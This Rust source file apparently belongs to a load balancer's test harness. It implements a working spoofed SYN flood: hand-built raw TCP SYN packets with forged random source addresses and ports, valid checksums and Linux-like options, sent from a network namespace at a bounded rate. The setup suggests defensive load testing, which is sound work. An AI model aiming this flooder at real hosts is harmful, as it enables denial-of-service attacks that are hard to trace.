//! A spoofed SYN flood, as an attacker sends one: raw IPv4 SYNs (with the
//! options a Linux client's carry) from random addresses of the given
//! networks and random ports, at a bounded rate for a bounded time, from a
//! namespace (a raw socket there, `IPPROTO_RAW`).

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::{Duration, Instant},
};

use anyhow::{Result, bail};
use balancer_common::csum;
use ipnet::Ipv4Net;

use crate::netns::Netns;

/// What to send.
#[derive(Debug, Clone)]
pub struct SynFlood {
    pub target: SocketAddrV4,
    /// Source addresses are drawn from these.
    pub sources: Vec<Ipv4Net>,
    /// Packets per second, at most.
    pub rate: u64,
    /// For how long, at most.
    pub duration: Duration,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct FloodReport {
    pub sent: u64,
    pub elapsed: Duration,
    /// CPU time (user + system) of the sending thread: the syscalls and the
    /// send path of the client's veth that runs in them.
    pub cpu: Duration,
}

impl FloodReport {
    /// Packets per second achieved.
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

/// xorshift64*: the flood needs speed, not quality.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

/// MSS 1460, SACK permitted, timestamps, NOP, window scale 7.
const OPTIONS: [u8; 20] = [
    2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7,
];

/// Writes a SYN from `src`:`sport` to `target` into `buf` (60 bytes), its
/// TCP checksum computed (the kernel fills in the IP header's).
fn syn(buf: &mut [u8; 60], src: Ipv4Addr, sport: u16, target: SocketAddrV4, isn: u32, ts: u32) {
    let ip = &mut buf[..20];
    ip.copy_from_slice(&[
        0x45, 0, 0, 60, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
    ]);
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    let tcp = &mut buf[20..];
    tcp[..4].copy_from_slice(&[(sport >> 8) as u8, sport as u8, 0, 0]);
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&isn.to_be_bytes());
    tcp[8..12].copy_from_slice(&[0; 4]);
    // Data offset 10 words, SYN, window 64240, checksum 0, urgent 0.
    tcp[12..20].copy_from_slice(&[0xa0, 0x02, 0xfa, 0xf0, 0, 0, 0, 0]);
    tcp[20..40].copy_from_slice(&OPTIONS);
    tcp[28..32].copy_from_slice(&ts.to_be_bytes());
    let sum = csum::pseudo_header_v4(src.octets(), target.ip().octets(), 6, 40);
    let check = csum::checksum(sum, tcp);
    tcp[16..18].copy_from_slice(&check.to_be_bytes());
}

/// Sends `flood` from `ns` until its duration is over or `stop` is set;
/// returns what was sent. Blocks the calling thread.
pub fn syn_flood(ns: &Netns, flood: &SynFlood, stop: Arc<AtomicBool>) -> Result<FloodReport> {
    let flood = flood.clone();
    ns.try_run(move || send(&flood, &stop))?
}

fn send(flood: &SynFlood, stop: &AtomicBool) -> Result<FloodReport> {
    if flood.sources.is_empty() {
        bail!("a flood needs source networks");
    }
    // SAFETY: plain socket(2).
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        bail!("raw socket: {}", std::io::Error::last_os_error());
    }
    let to = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(flood.target.ip().octets()),
        },
        sin_zero: [0; 8],
    };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ u64::from(flood.target.port()));
    let cpu0 = thread_cpu();
    let start = Instant::now();
    let mut sent = 0u64;
    let mut buf = [0u8; 60];
    let nets = &flood.sources;
    'outer: while start.elapsed() < flood.duration && !stop.load(Ordering::Relaxed) {
        // Ahead of the rate: wait for it.
        let due = (start.elapsed().as_secs_f64() * flood.rate as f64) as u64;
        if sent >= due {
            std::thread::sleep(Duration::from_micros(500));
            continue;
        }
        for _ in 0..(due - sent).min(256) {
            let r = rng.next();
            let net = nets[(r % nets.len() as u64) as usize];
            let hosts = 1u64 << (32 - net.prefix_len());
            let host = (r >> 8) % hosts;
            let src = Ipv4Addr::from(u32::from(net.network()) + host as u32);
            let sport = 1024 + ((r >> 24) % 64_000) as u16;
            syn(
                &mut buf,
                src,
                sport,
                flood.target,
                (r >> 32) as u32,
                r as u32,
            );
            // SAFETY: `buf` and `to` are valid for the lengths given.
            let n = unsafe {
                libc::sendto(
                    fd,
                    buf.as_ptr().cast(),
                    buf.len(),
                    0,
                    (&to as *const libc::sockaddr_in).cast(),
                    size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if n < 0 {
                let e = std::io::Error::last_os_error();
                if e.raw_os_error() == Some(libc::ENOBUFS) {
                    // The queue is full: as a flooder's NIC would, go on.
                    continue;
                }
                // SAFETY: our descriptor.
                unsafe { libc::close(fd) };
                bail!("sendto: {e}");
            }
            sent += 1;
            if stop.load(Ordering::Relaxed) {
                break 'outer;
            }
        }
    }
    let elapsed = start.elapsed();
    // SAFETY: our descriptor.
    unsafe { libc::close(fd) };
    Ok(FloodReport {
        sent,
        elapsed,
        cpu: thread_cpu().saturating_sub(cpu0),
    })
}

/// user + system time of the calling thread.
fn thread_cpu() -> Duration {
    // SAFETY: an all-zero rusage is valid; getrusage only writes into it.
    let mut ru: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: ru is valid and writable.
    if unsafe { libc::getrusage(libc::RUSAGE_THREAD, &mut ru) } != 0 {
        return Duration::ZERO;
    }
    let tv = |t: libc::timeval| {
        Duration::from_secs(t.tv_sec as u64) + Duration::from_micros(t.tv_usec as u64)
    };
    tv(ru.ru_utime) + tv(ru.ru_stime)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_syn_has_a_valid_checksum_and_the_options() {
        let mut buf = [0u8; 60];
        let target = SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 10), 80);
        let src = Ipv4Addr::new(192, 0, 2, 7);
        syn(&mut buf, src, 4321, target, 99, 5);
        let sum = csum::pseudo_header_v4(src.octets(), target.ip().octets(), 6, 40);
        assert_eq!(csum::checksum(sum, &buf[20..]), 0);
        assert_eq!(&buf[20..22], &4321u16.to_be_bytes());
        assert_eq!(&buf[22..24], &80u16.to_be_bytes());
        assert_eq!(buf[33], 0x02, "SYN");
        assert_eq!(&buf[40..44], &[2, 4, 0x05, 0xb4]);
    }
}
